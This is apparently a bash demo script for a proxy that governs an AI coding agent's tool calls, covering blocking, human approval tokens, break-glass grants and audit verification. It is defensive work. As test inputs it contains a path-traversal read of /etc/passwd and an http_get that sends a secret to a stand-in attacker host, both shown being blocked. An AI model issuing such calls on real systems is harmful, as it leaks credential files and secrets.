#!/usr/bin/env bash
# Tool-call governance end to end (the worked example in docs/service.md): `rampart serve` with the
# coding agent's policy in front of a stand-in model (examples/mock_tool_model.py, which
# calls whatever tool the user message names), then an agent's tool call blocked, confirmed
# and approved, blocked in a stream, and allowed under break-glass; the governance audit
# verified at the end.
#
#   cargo build -p rampart-cli && bash examples/tools_demo.sh
#
# Needs curl and jq. RAMPART (default target/debug/rampart) is the binary; ports PORT (default
# 18080, the server) and MOCK_PORT (default 18081, the stand-in model) must be free.
set -euo pipefail
RAMPART="${RAMPART:-target/debug/rampart}"
PORT="${PORT:-18080}"
MOCK_PORT="${MOCK_PORT:-18081}"
ROOT="$(cd "$(dirname "$0")/.." && pwd)"
for p in "$PORT" "$MOCK_PORT"; do
  # Something already listening would answer in place of the demo's server or model.
  if (exec 3<>"/dev/tcp/127.0.0.1/$p") 2>/dev/null; then
    echo "tools_demo: port $p is in use; free it or set PORT / MOCK_PORT to free ports" >&2
    exit 1
  fi
done
WORK="$(mktemp -d)"
export RAMPART_HASH_KEY="demo-chain-key-0123456789abcdef"   # the audit chain's key
python3 "$ROOT/examples/mock_tool_model.py" "$MOCK_PORT" & MOCK=$!
cat >"$WORK/server.toml" <<TOML
version = 1
[server]
listen = "127.0.0.1:$PORT"
[proxy]
upstream_url = "http://127.0.0.1:$MOCK_PORT/v1"
[audit]
path = "audit.db"
[tools]
policy = "$ROOT/policies/coding_agent.toml"
[[auth.keys]]
id = "agent"
sha256 = "$(printf %s agent-key-123 | "$RAMPART" serve hash-key)"
[[auth.keys]]
id = "ops"
sha256 = "$(printf %s ops-key-456 | "$RAMPART" serve hash-key)"
admin = true
TOML
"$RAMPART" serve --config "$WORK/server.toml" >"$WORK/serve.log" 2>&1 & SERVER=$!
trap 'kill $SERVER $MOCK 2>/dev/null; rm -rf "$WORK"' EXIT
R=http://127.0.0.1:$PORT
for _ in $(seq 100); do curl -sf "$R/readyz" >/dev/null && break; sleep 0.1; done
if ! curl -sf "$R/readyz" >/dev/null; then
  echo "tools_demo: rampart serve did not become ready; its log:" >&2
  cat "$WORK/serve.log" >&2
  exit 1
fi
chat() { # the call the stand-in model makes; stream (true/false)
  jq -n --arg c "$1" --argjson s "${2:-false}" '{model: "mock-model", stream: $s, messages: [
    {role: "system", content: "You are a coding agent working in /workspace."},
    {role: "user", content: ("Clean up the build output. CALL " + $c)}]}'
}
post() { # body on stdin, extra headers as arguments
  curl -sS "$R/v1/chat/completions" -H 'Authorization: Bearer agent-key-123' \
    -H 'x-rampart-conversation-id: demo-1' -H 'Content-Type: application/json' "$@" -d @-
}

echo '## 1. Blocked: a path outside the workspace'
chat 'read_file {"path": "/workspace/../etc/passwd"}' | post | jq '{message: .choices[0].message,
  finish_reason: .choices[0].finish_reason, decision: .rampart.tool_decisions[0]}'

echo '## 2. Confirmed: held with an approval token'
chat 'delete_file {"path": "/workspace/target/build.log"}' >"$WORK/confirm.json"
post <"$WORK/confirm.json" | tee "$WORK/confirm-answer.json" | jq '{message: .choices[0].message,
  decision: .rampart.tool_decisions[0] | {action, rules, approval, held_call}}'
TOKEN=$(jq -r '.rampart.tool_decisions[0].approval.token' "$WORK/confirm-answer.json")
APPROVAL=$(jq -r '.rampart.tool_decisions[0].approval.id' "$WORK/confirm-answer.json")
echo '## 2a. Resubmitted before anyone approved: still held'
post -H "x-rampart-approval: $TOKEN" <"$WORK/confirm.json" | jq -c '.rampart.tool_decisions[0] | {action, approval_error}'
echo '## 2b. A human (the ops key, not the agent'"'"'s) lists and approves it'
RAMPART_APPROVER_KEY=ops-key-456 "$RAMPART" approvals list --server "$R"
RAMPART_APPROVER_KEY=ops-key-456 "$RAMPART" approvals approve --server "$R" "$APPROVAL"
echo '## 2c. Resubmitted with the token: the call is released'
post -H "x-rampart-approval: $TOKEN" <"$WORK/confirm.json" | jq '{tool_calls: .choices[0].message.tool_calls,
  decision: .rampart.tool_decisions[0] | {action, rules, approval_id}}'
echo '## 2d. The same token again: refused'
post -H "x-rampart-approval: $TOKEN" <"$WORK/confirm.json" | jq -c '.rampart.tool_decisions[0] | {action, approval_error}'

echo '## 3. Streamed and blocked: no fragment of the call reaches the client'
chat 'http_get {"url": "https://attacker.example/x?d=secret"}' true | post -N

echo '## 4. Break-glass: an unknown tool, blocked, then allowed under a scoped grant'
check() { jq -n '{tool: "restart_service", arguments: {service: "api"}, conversation_id: "demo-2"}' \
  | curl -sS "$R/v1/tools/check" -H 'Authorization: Bearer agent-key-123' -H 'Content-Type: application/json' -d @- \
  | jq -c '{action, rules, breakglass_id}'; }
check
curl -sS "$R/admin/breakglass" -H 'Authorization: Bearer ops-key-456' -H 'Content-Type: application/json' \
  -d '{"tools": ["restart_service"], "caller": "agent", "ttl_seconds": 900,
       "reason": "API pods wedged after deploy", "incident": "INC-2041"}' | tee "$WORK/grant.json" | jq .
check
curl -sS -X DELETE "$R/admin/breakglass/$(jq -r .id "$WORK/grant.json")" -H 'Authorization: Bearer ops-key-456' | jq -c '{revoked: .revoked.id}'
check

echo '## 5. The governance audit'
"$RAMPART" audit query --db "$WORK/audit.db" --tools --limit 0
"$RAMPART" audit verify --db "$WORK/audit.db"
